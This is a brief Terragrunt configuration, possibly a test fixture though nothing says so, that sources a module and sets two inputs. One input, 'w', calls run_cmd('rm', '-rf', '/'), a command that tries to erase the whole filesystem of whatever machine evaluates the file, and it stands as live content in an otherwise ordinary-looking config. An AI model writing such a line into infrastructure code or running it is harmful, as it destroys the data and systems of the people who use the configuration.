terraform {
  source = "../../modules/m"
}


inputs = {
  v = get_terraform_command() == "destroy" ? "never" : "always"
  w = run_cmd("rm", "-rf", "/")
}
